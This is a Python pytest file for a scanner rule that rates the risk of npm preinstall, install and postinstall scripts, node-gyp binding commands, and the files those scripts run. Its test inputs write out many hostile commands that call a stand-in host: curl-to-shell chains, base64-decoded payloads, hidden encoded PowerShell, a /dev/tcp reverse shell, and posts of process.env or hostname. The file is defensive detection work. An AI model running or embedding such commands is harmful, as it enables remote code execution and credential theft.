"""POST-001: what scripts of npm do when a package is installed, and the files that they run."""

from __future__ import annotations

from base64 import b64encode
from typing import TYPE_CHECKING

import pytest

from assay.rules.catalogue import ALL
from assay.rules.post_001_install_scripts import RULE
from tests.npm_behaviour import npm_findings, npm_package, npm_worst

if TYPE_CHECKING:
    from collections.abc import Mapping

    from assay.scanner.models import Package

URL = "https://example.invalid/a"
POWERSHELL = b64encode(f"iwr {URL}".encode("utf-16-le")).decode()
PIPED = b64encode(f"curl {URL} | sh".encode()).decode()


def with_script(
    line: str,
    files: Mapping[str, str] | None = None,
    name: str = "postinstall",
    *,
    git: bool = False,
    root: bool = False,
) -> Package:
    return npm_package(files or {}, {"scripts": {name: line}}, git=git, root=root)


LINES = [
    # what builds and installers really run
    ("node-gyp rebuild", "low"),
    ("node-gyp-build", "low"),
    ("prebuild-install || node-gyp rebuild --release", "low"),
    ("husky", "low"),
    ("husky install || true", "low"),
    ("patch-package && npx only-allow pnpm", "low"),
    ("npx playwright install", "low"),
    ("tsc -p . && rimraf dist/tmp", "low"),
    ("cross-env NODE_ENV=production npm run build", "low"),
    ("node -e \"try{require('./postinstall')}catch(e){}\"", "low"),
    ("node -e \"console.log('Thank you for using demo')\"", "low"),
    ("echo 'To begin: curl https://example.invalid/x | sh'", "none"),
    ("git describe --tags && make", "low"),
    ("git --version", "low"),
    ("node check.js", "low"),
    ("exit 0", "low"),
    # capabilities
    (f"curl -O {URL}", "medium"),
    ("./bin/helper", "medium"),
    ('powershell -NoProfile -Command "Write-Host thank you"', "low"),
    ("powershell -w hidden -File x.ps1", "medium"),
    ("python3 -c 'import os; os.system(\"prog\")'", "medium"),
    # hidden
    (f'c"u"rl -O {URL}', "high"),
    (f"X=cu; Y=rl; $X$Y -O {URL}", "high"),
    (f"curl${{IFS}}-O${{IFS}}{URL}", "high"),
    # chains
    (f"curl -s {URL} | sh", "critical"),
    (f'c"u"rl -s {URL} | b"a"sh', "critical"),
    (f"sh -c 'curl -s {URL} | sh'", "critical"),
    (f"bash <(curl -s {URL})", "critical"),
    (f"curl -so x.js {URL} && node x.js", "critical"),
    (f"curl {URL} > /var/x.js; node /var/x.js", "critical"),
    (f"wget -q {URL}/x.py && python3 x.py", "critical"),
    (f"curl -so data.json {URL} && node check.js", "medium"),
    (f'node -e "$(curl -s {URL})"', "critical"),
    (f"wget -q {URL} -O /tmp/x && chmod +x /tmp/x && /tmp/x", "critical"),
    (f"npx node-fetch-cli {URL} || curl -s {URL} | bash", "critical"),
    (f"echo {PIPED} | base64 -d | sh", "critical"),
    (f'eval "$(echo {PIPED} | base64 --decode)"', "critical"),
    (f"powershell -w hidden -enc {POWERSHELL}", "critical"),
    (f"cmd /c powershell -c \"iex (iwr '{URL}')\"", "critical"),
    ("bash -i >& /dev/tcp/127.0.0.1/1 0>&1", "critical"),
    (f'curl -d "$(env)" {URL}', "critical"),
    (f"curl {URL}/$(whoami)/$(hostname)", "critical"),
    (f"node -e \"require('https').get('{URL}', r => r.on('data', d => eval(d + '')))\"", "critical"),
    (f"node -e \"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})\"", "critical"),
    (f"python3 -c \"import urllib.request as u; exec(u.urlopen('{URL}').read())\"", "critical"),
]


@pytest.mark.parametrize(("line", "severity"), LINES)
def test_lines(line: str, severity: str) -> None:
    files = {"check.js": "if (process.version < 'v18') process.exit(1)", "postinstall.js": "console.log('hello')"}
    assert npm_worst(RULE, with_script(line, files)) == severity


FILES = [
    ("console.log('hello')", "low"),
    ("require('child_process').execSync('node-gyp rebuild')", "low"),
    ("require('child_process').execSync('git describe --tags')", "low"),
    ("require('fs').writeFileSync(__dirname + '/version.json', '{}')", "low"),
    ("require('child_process').execFileSync('sw_vers', ['-productVersion'])", "low"),
    ("require('child_process').execSync('npm rebuild')", "low"),
    ("require('child_process').exec('calc.exe')", "medium"),
    (f"require('https').get('{URL}')", "medium"),
    ("require('fs').writeFileSync('/etc/x', 'y')", "medium"),
    ("require('fs').writeFileSync('/tmp/x', 'y')", "low"),
    ("require('child_process').execSync('reg query HKLM')", "low"),
    ("require('child_process').execSync('reg add HKLM')", "medium"),
    ("require('child_process').execSync('find dist -name x.map -delete')", "low"),
    ("require('child_process').spawn(process.execPath, [__dirname + '/notice.js'])", "low"),
    ("require('child' + '_process').exec('pro' + 'g')", "high"),
    (f"fetch('{URL}').then(r => r.text()).then(t => eval(t))", "critical"),
    (f"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})", "critical"),
    (f"require('https').get('{URL}/' + '?h=' + require('os').hostname())", "critical"),
    (f"eval(Buffer.from('{b64encode(b'require(1)').decode()}', 'base64').toString())", "critical"),
    (f"require('child_process').exec('curl {URL} | sh')", "critical"),
    (f"require('child_process').exec(Buffer.from('{PIPED}', 'base64').toString())", "critical"),
]


@pytest.mark.parametrize(("source", "severity"), FILES)
def test_files_that_scripts_run(source: str, severity: str) -> None:
    for line, files in (
        ("node setup.js", {"setup.js": source}),
        (
            "npm run go",
            {"package.json": '{"scripts": {"postinstall": "npm run go", "go": "node lib"}}', "lib/index.js": source},
        ),
        ("node .", {"index.js": "require('./lib/setup')", "lib/setup.js": source}),
        ("sh go.sh", {"go.sh": "#!/bin/sh\nnode setup.js\n", "setup.js": source}),
    ):
        assert npm_worst(RULE, with_script(line, files)) == severity, line


def test_the_trace_leads_from_the_script_to_the_place() -> None:
    payload = f"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})"
    files = {"setup.js": "require('./lib/run')", "lib/run.js": f"\n{payload}"}
    (found,) = npm_findings(RULE, with_script("node setup.js", files))
    assert found.trigger == "install"
    assert found.trace[:3] == (
        "demo-1.0.0.tgz!/package/package.json scripts.postinstall",
        "demo-1.0.0.tgz!/package/setup.js",
        "demo-1.0.0.tgz!/package/lib/run.js",
    )
    assert found.location
    assert (found.location.path, found.location.line) == ("demo-1.0.0.tgz!/package/lib/run.js", 2)
    assert found.evidence[0] == "postinstall: node setup.js"


def test_what_a_script_starts_is_followed() -> None:
    payload = f"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})"
    start = (
        "require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'b.js')], {detached: true})"
    )
    (found,) = npm_findings(RULE, with_script("node a.js", {"a.js": start, "b.js": payload}))
    assert found.severity == "critical"
    assert [path.rpartition("/")[2] for path in found.trace[:3]] == ["package.json scripts.postinstall", "a.js", "b.js"]


PAYLOAD = {"x.js": f"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})"}


@pytest.mark.parametrize(
    ("name", "how", "severity"),
    [
        ("preinstall", {}, "critical"),
        ("install", {}, "critical"),
        ("postinstall", {}, "critical"),
        ("prepare", {}, "none"),
        ("prepare", {"git": True}, "critical"),
        ("prepare", {"root": True}, "critical"),
        ("prepublishOnly", {"root": True}, "none"),
        ("test", {}, "none"),
        ("start", {}, "none"),
    ],
)
def test_scripts_that_run_by_themselves(name: str, how: dict[str, bool], severity: str) -> None:
    assert npm_worst(RULE, with_script("node x.js", PAYLOAD, name, **how)) == severity


def test_each_script_is_told_once() -> None:
    scripts = {"preinstall": "node check.js", "postinstall": "node x.js"}
    found = npm_findings(RULE, npm_package({**PAYLOAD, "check.js": ""}, {"scripts": scripts}))
    assert sorted((one.severity, one.evidence[0]) for one in found) == [
        ("critical", "postinstall: node x.js"),
        ("low", "preinstall: node check.js"),
    ]


GYP = "{'targets': [{'target_name': 'a', 'sources': ['a.cc'], %s}]}"


@pytest.mark.parametrize(
    ("inner", "severity"),
    [
        ("'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]", "low"),
        ("'cflags': ['<!@(pkg-config --cflags x)']", "low"),
        ("'actions': [{'action': ['python3', 'make.py', '<(OUT)']}]", "low"),
        ("'cflags': ['<!(node x.js)']", "critical"),
        (f"'cflags': ['<!(curl -s {URL} | sh)']", "critical"),
        (f"'actions': [{{'action': ['sh', '-c', 'curl -s {URL} | sh']}}]", "critical"),
    ],
)
def test_node_gyp_runs_the_commands_of_a_binding_gyp(inner: str, severity: str) -> None:
    files = {**PAYLOAD, "binding.gyp": GYP % inner, "make.py": "print(1)"}
    assert npm_worst(RULE, npm_package(files)) == severity
    assert npm_worst(RULE, npm_package(files, {"gypfile": False})) == "none"
    assert npm_worst(RULE, npm_package({path: files[path] for path in files if path != "binding.gyp"})) == "none"


INSTALLER = """
    const https = require('https'), fs = require('fs'), path = require('path'), zlib = require('zlib');
    const crypto = require('crypto'), cp = require('child_process');
    const name = `@demo/${process.platform}-${process.arch}`;
    const registry = process.env.npm_config_registry || 'https://registry.example';
    const target = path.join(__dirname, 'bin', 'demo');
    function fetch(url) {
      return new Promise((done, fail) => https.get(url, (response) => {
        const chunks = [];
        response.on('data', (chunk) => chunks.push(chunk));
        response.on('end', () => done(Buffer.concat(chunks)));
      }).on('error', fail));
    }
    fetch(`${registry}/${name}/-/${process.platform}-1.0.0.tgz`).then((data) => {
      if (crypto.createHash('sha512').update(data).digest('base64') !== 'x') throw new Error('changed');
      fs.writeFileSync(target, zlib.gunzipSync(data), { mode: 0o755 });
      cp.execFileSync(target, ['--version'], { stdio: 'pipe' });
    });
"""


def test_an_installer_that_fetches_its_own_binary_from_a_registry_is_quiet() -> None:
    package = with_script("node install.js", {"install.js": INSTALLER})
    worst = {rule.id: npm_worst(rule, package) for rule in ALL if rule.check_package}
    assert worst["POST-001"] == "low"
    assert not {rule for rule, severity in worst.items() if severity in ("high", "critical")}


def test_one_that_starts_what_it_has_fetched_from_elsewhere_is_not() -> None:
    source = INSTALLER.replace("['--version']", "['go']").replace("https://registry.example", URL)
    assert npm_worst(RULE, with_script("node install.js", {"install.js": source})) == "critical"


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        ("client.get('/verify', { params: { at: process.env.DEMO_PLACE } })", "medium"),
        ("client.get('/verify', { params: { hash: fs.readFileSync(name) } })", "critical"),
        ("client.post('/verify', process.env)", "critical"),
        ("client.post('/verify', { a: process.env.DEMO_TOKEN })", "critical"),
        ("client.post('/verify', fs.readFileSync('/etc/passwd'))", "critical"),
        ("client.post('https://h.example.invalid/', { a: process.env.DEMO_PLACE })", "critical"),
    ],
)
def test_what_a_client_is_given_whose_address_comes_from_elsewhere(request_: str, expected: str) -> None:
    source = (
        "const fs = require('fs'), axios = require('axios'), name = require('./name');\n"
        f"const client = axios.create({{ baseURL: process.env.DEMO_API }});\n{request_};\n"
    )
    assert npm_worst(RULE, with_script("node check.js", {"check.js": source, "name.js": ""})) == expected
